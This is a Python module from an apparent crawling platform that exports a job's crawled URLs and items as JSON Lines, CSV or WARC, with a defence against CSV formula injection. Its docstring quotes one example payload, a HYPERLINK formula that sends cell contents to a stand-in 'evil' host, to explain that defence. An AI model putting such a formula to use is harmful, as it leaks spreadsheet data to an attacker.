"""A job's results as JSON Lines, CSV or WARC 1.1, streamed from the database at any time.

An export reads the job's URLs through a server-side cursor (``iterator``), a few thousand
rows at a time, and yields bytes as it goes: memory stays the same whatever the job's size,
and the same generator feeds ``manage.py export``, ``manage.py crawl --output`` and the
admin's download. It works on a running job (the URLs that ended so far), a finished one or
one whose processes were killed (what committed is there).

Rows: one per URL that ended (done, failed, or parked for review), in frontier order, with
the page's extracted fields as a ``data`` object (JSON Lines) or one ``data.NAME`` column
per extraction rule (CSV).

WARC (warcio, WARC/1.1, one gzip member per record): a ``warcinfo`` record describing the
job, then for each page whose body is stored a ``request`` and a ``response`` record (the
raw headers and the body as received), and a ``revisit`` record (``server-not-modified``)
for pages a recrawl found unchanged by a 304. Pages without a stored body have no records.

Items (``items=True``, a spider job's, for the API and the admin): one JSON object per line,
each item as its spider yielded it and its pipelines left it, in the order they were stored;
or CSV with one column per field name any item has (first seen first; a nested value as
JSON). Items a pipeline dropped are left out. ``save_items`` (``manage.py export --items``,
``crawl --output`` of a spider job) writes them as Scrapy's ``-O`` does instead, its bytes
(``tasks/content/feeds.py``): ``jsonlines``, ``json``, ``csv`` or ``xml``, to a file, an
``s3://`` URI or standard output.

Page titles and URLs are other people's text. In CSV (not in a Scrapy feed's bytes, which
are Scrapy's), a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is a formula to a spreadsheet (``=HYPERLINK("http://evil/?"&A1)``): such cells get a leading
apostrophe, as OWASP advises, so the spreadsheet shows the text instead of running it. JSON
Lines are left as they are (no spreadsheet opens them as formulas).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

from django.utils import timezone
from warcio.statusandheaders import StatusAndHeaders
from warcio.timeutils import datetime_to_iso_date
from warcio.warcwriter import WARCWriter

from tasks.content import bodies, exporters, feeds, spiders
from web.models import NOT_MODIFIED, CrawlJob, FrontierURL, Item, URLState

FORMATS = ("jsonl", "csv", "warc")
ITEM_FORMATS = tuple(exporters.EXPORTERS)  # Scrapy's feed formats (save_items)
FIELDS = [
    "url",
    "final_url",
    "status",
    "depth",
    "title",
    "content_type",
    "size",
    "fetched_at",
    "error",
]
_COLUMNS = [
    "url", "state", "depth", "http_status", "error_reason", "error_message", "page__final_url",
    "page__status", "page__title", "page__content_type", "page__size", "page__fetched_at",
    "page__data", "page__body_key", "page__http", "page__truncated", "page__checked_at",
]  # fmt: skip
_PAGE_COLUMNS = [c for c in _COLUMNS if c.startswith("page__")]
_CHUNK_BYTES = 256 << 10  # bytes gathered before they are handed on
_SERVER_NOT_MODIFIED = "http://netpreserve.org/warc/1.1/revisit/server-not-modified"


def _ended(job_id: int):
    ended = [URLState.DONE, URLState.FAILED, URLState.NEEDS_REVIEW]
    return FrontierURL.objects.filter(job_id=job_id, state__in=ended)


def count(job_id: int) -> int:
    """Rows an export of the job would hold now (for progress)."""
    return _ended(job_id).count()


def _records(job_id: int) -> Iterator[dict]:
    """The job's ended URLs with their pages, from a server-side cursor."""
    qs = _ended(job_id).order_by("id").values_list(*_COLUMNS)
    for values in qs.iterator(chunk_size=2000):
        yield dict(zip(_COLUMNS, values, strict=True))


def _row(record: dict) -> dict:
    if record["state"] != URLState.DONE:  # a page of an earlier run is not this URL's result
        record = {**record, **dict.fromkeys(_PAGE_COLUMNS)}
    final = record["page__final_url"]
    when = record["page__fetched_at"]
    status = record["page__status"]
    return {
        "url": record["url"],
        "final_url": final,
        "status": status if status is not None else record["http_status"],
        "depth": record["depth"],
        "title": record["page__title"],
        "content_type": record["page__content_type"],
        "size": record["page__size"],
        "fetched_at": when.isoformat() if when else None,
        "error": None if final is not None else _error(record),
        "data": record["page__data"] or {},
    }


def rows(job_id: int) -> Iterator[dict]:
    """One dict per fetched, failed or parked URL of the job, in frontier order (a parked
    URL's error reads ``needs_review: <what the ban detector saw>``)."""
    for record in _records(job_id):
        yield _row(record)


def _error(record: dict) -> str | None:
    state, reason, message = record["state"], record["error_reason"], record["error_message"]
    if state == URLState.NEEDS_REVIEW:
        return f"needs_review: {message or reason}"
    if state == URLState.DONE:  # done without a page: noindex
        return reason or None
    return f"{reason}: {message}".strip(": ")


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A CSV cell a spreadsheet will show as text, never run as a formula."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def items(job_id: int) -> Iterator[dict]:
    """The job's kept items, in the order they were stored, from a server-side cursor."""
    kept = Item.objects.filter(job_id=job_id, dropped="").order_by("id")
    for data, fields in kept.values_list("data", "fields").iterator(chunk_size=2000):
        yield exporters.Stored.of(data, fields).data  # its keys in the spider's order


def count_items(job_id: int) -> int:
    return Item.objects.filter(job_id=job_id, dropped="").count()


class Export:
    """One export of one job; ``chunks()`` yields its bytes, ``rows`` counts what it wrote.
    ``items``: the job's items instead of its URLs (JSON Lines or CSV)."""

    def __init__(self, job: CrawlJob, fmt: str, filename: str = "", gzip_warc: bool = True,
                 items: bool = False) -> None:  # fmt: skip
        if fmt not in FORMATS:
            raise ValueError(f"unknown format {fmt!r}: one of {', '.join(FORMATS)}")
        if items and fmt == "warc":
            raise ValueError("items are exported as jsonl or csv")
        self.job, self.fmt, self.filename, self.gzip_warc = job, fmt, filename, gzip_warc
        self.items = items
        self.rows = 0  # URLs read so far
        self.records = 0  # WARC response records written so far

    def chunks(self) -> Iterator[bytes]:
        if self.items:
            pieces = self._items_jsonl() if self.fmt == "jsonl" else self._items_csv()
        else:
            pieces = {"jsonl": self._jsonl, "csv": self._csv, "warc": self._warc}[self.fmt]()
        buffer: list[bytes] = []
        size = 0
        for piece in pieces:
            buffer.append(piece)
            size += len(piece)
            if size >= _CHUNK_BYTES:
                yield b"".join(buffer)
                buffer, size = [], 0
        if buffer:
            yield b"".join(buffer)

    def _jsonl(self) -> Iterator[bytes]:
        for record in _records(self.job.pk):
            self.rows += 1
            yield (json.dumps(_row(record), ensure_ascii=False) + "\n").encode("utf-8")

    def _csv(self) -> Iterator[bytes]:
        names = [rule["name"] for rule in self.job.extract or [] if isinstance(rule, dict)]
        text = io.StringIO()
        writer = csv.writer(text)
        writer.writerow(FIELDS + [f"data.{name}" for name in names])
        yield _taken(text).encode("utf-8")
        for record in _records(self.job.pk):
            self.rows += 1
            row = _row(record)
            data = row.pop("data")
            cells = [row[f] for f in FIELDS]
            for name in names:
                value = data.get(name)
                cells.append(json.dumps(value, ensure_ascii=False) if isinstance(value, list)
                             else value)  # fmt: skip
            writer.writerow([neutralise(c) for c in cells])
            yield _taken(text).encode("utf-8")

    def _items_jsonl(self) -> Iterator[bytes]:
        for data in items(self.job.pk):
            self.rows += 1
            yield (json.dumps(data, ensure_ascii=False) + "\n").encode("utf-8")

    def _items_csv(self) -> Iterator[bytes]:
        names: dict[str, None] = {}
        for data in items(self.job.pk):  # a first pass for the header: constant memory
            names.update(dict.fromkeys(data))
        text = io.StringIO()
        writer = csv.writer(text)
        writer.writerow([neutralise(n) for n in names])
        yield _taken(text).encode("utf-8")
        for data in items(self.job.pk):
            self.rows += 1
            cells = [data.get(n) for n in names]
            cells = [json.dumps(c, ensure_ascii=False) if isinstance(c, list | dict) else c
                     for c in cells]  # fmt: skip
            writer.writerow([neutralise(c) for c in cells])
            yield _taken(text).encode("utf-8")

    def _warc(self) -> Iterator[bytes]:
        out = io.BytesIO()
        writer = WARCWriter(out, gzip=self.gzip_warc, warc_version="1.1")
        job = self.job
        writer.write_record(writer.create_warcinfo_record(self.filename, {
            "software": "crawlplatform",
            "format": "WARC File Format 1.1",
            "conformsTo": "https://iipc.github.io/warc-specifications/specifications/"
                          "warc-format/warc-1.1/",
            "isPartOf": f"job {job.pk}: {job.name}",
            "description": f"run {job.run}; seeds: {' '.join(job.seeds)}",
        }))  # fmt: skip
        yield _taken(out)
        for record in _records(job.pk):
            self.rows += 1
            if not record["page__body_key"]:
                continue
            for warc_record in _exchange(writer, record):
                writer.write_record(warc_record)
            self.records += 1
            yield _taken(out)


def format_of(target: str, items: bool = False) -> str:
    """The format a file name asks for (``.jsonl``, ``.csv``, ``.warc``, each maybe ``.gz``;
    ``items``: a feed's, ``.jsonl``, ``.jl``, ``.jsonlines``, ``.json``, ``.csv``, ``.xml``)."""
    name = target.lower().removesuffix(".gz")
    for fmt in ITEM_FORMATS if items else FORMATS:
        if name.endswith(f".{fmt}"):
            return fmt
    names = ".jsonl, .json, .csv or .xml" if items else ".jsonl, .csv or .warc"
    raise ValueError(f"{target!r}: name it {names} (.gz to compress), or give the format")


def save(
    job: CrawlJob,
    fmt: str,
    target: str,
    progress: Callable[[Export], None] | None = None,
) -> Export:
    """Write an export of ``job`` to ``target`` (a path, or ``-`` for standard output); a
    name ending in ``.gz`` is compressed (WARC: one gzip member per record). A file appears
    whole: it is written beside its name and renamed when complete. ``progress`` is called
    after each chunk."""
    compressed = target.endswith(".gz")
    export = Export(job, fmt, filename=Path(target).name, gzip_warc=compressed)
    if target == "-":
        _copy(export, sys.stdout.buffer, progress)
        sys.stdout.buffer.flush()
        return export
    path = Path(target)
    partial = path.with_name(f".{path.name}.part")
    try:
        with partial.open("wb") as raw:
            if compressed and fmt != "warc":
                with gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as out:
                    _copy(export, out, progress)
            else:
                _copy(export, raw, progress)
        os.replace(partial, path)
    finally:
        partial.unlink(missing_ok=True)
    return export


def save_items(job: CrawlJob, fmt: str, target: str) -> int:
    """Write the job's kept items (every run's, in the order they were stored) to ``target``
    as Scrapy's ``-O`` writes them: a path or ``s3://`` URI (replaced; ``.gz`` compresses),
    or ``-`` for standard output, with the spider's feed settings (its encoding, fields and
    indent). How many items it holds; ``feeds.FeedProblem`` or ``OSError`` says why none
    could be written."""
    spider = spiders.create(job)
    if target == "-":
        options = feeds.on_demand(spider, "-", fmt).options
        written, _ = feeds.export(options, feeds.every_item(job), sys.stdout.buffer,
                                  f"job={job.pk} standard output")  # fmt: skip
        sys.stdout.buffer.flush()
        return written
    uri = feeds.uri_for(target, spider, job.started_at or timezone.now())
    done = feeds.write_feed(job, spider, feeds.on_demand(spider, uri, fmt), all_runs=True)
    if done and "error" in done[0]:
        raise OSError(done[0]["error"])
    return done[0]["items"] if done else 0


def save_feeds(job: CrawlJob) -> list[dict]:
    """The job's ``FEEDS`` written again from its last run's items, as when the run ended
    (``tasks/content/feeds.py``): what each file holds, or why it could not be written."""
    return feeds.write(job, spiders.create(job))


def _copy(export: Export, out, progress: Callable[[Export], None] | None) -> None:
    for chunk in export.chunks():
        out.write(chunk)
        if progress is not None:
            progress(export)


def _taken(out):
    """What ``out`` (a BytesIO or StringIO) holds, leaving it empty."""
    data = out.getvalue()
    out.seek(0)
    out.truncate()
    return data


def _exchange(writer: WARCWriter, record: dict) -> list:
    """The request, response (and revisit) records of one stored page."""
    uri = record["page__final_url"]
    http = record["page__http"] or {}
    protocol = http.get("protocol", "HTTP/1.1")
    date = datetime_to_iso_date(record["page__fetched_at"], use_micros=True)
    raw = bodies.get(record["page__body_key"])
    response_headers = [
        (k, v) for k, v in http.get("response", []) if k.lower() != "transfer-encoding"
    ] or [("Content-Type", record["page__content_type"] or "application/octet-stream")]
    status = f"{record['page__status']} {http.get('reason') or 'OK'}"
    warc_headers = {"WARC-Date": date}
    if http.get("ip"):
        warc_headers["WARC-IP-Address"] = http["ip"]
    if record["page__truncated"]:
        warc_headers["WARC-Truncated"] = "length"
    response = writer.create_warc_record(
        uri, "response", payload=io.BytesIO(raw), length=len(raw),
        http_headers=StatusAndHeaders(status, response_headers, protocol=protocol),
        warc_headers_dict=warc_headers,
    )  # fmt: skip
    parts = urlsplit(uri)
    target = (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
    sent = [(k, v) for k, v in http.get("request", []) if k.lower() != "host"]
    request = writer.create_warc_record(
        uri, "request", payload=io.BytesIO(b""), length=0,
        http_headers=StatusAndHeaders(f"GET {target} {protocol}", [("Host", parts.netloc), *sent],
                                      is_http_request=True),
        warc_headers_dict={"WARC-Date": date,
                           "WARC-Concurrent-To": response.rec_headers["WARC-Record-ID"]},
    )  # fmt: skip
    found = [response, request]
    if record["error_reason"] == NOT_MODIFIED and record["page__checked_at"]:
        found.append(writer.create_warc_record(
            uri, "revisit", http_headers=StatusAndHeaders("304 Not Modified", [],
                                                          protocol=protocol),
            warc_headers_dict={
                "WARC-Date": datetime_to_iso_date(record["page__checked_at"], use_micros=True),
                "WARC-Profile": _SERVER_NOT_MODIFIED,
                "WARC-Refers-To-Target-URI": uri,
                "WARC-Refers-To-Date": date,
                "WARC-Refers-To": response.rec_headers["WARC-Record-ID"],
            },
        ))  # fmt: skip
    return found
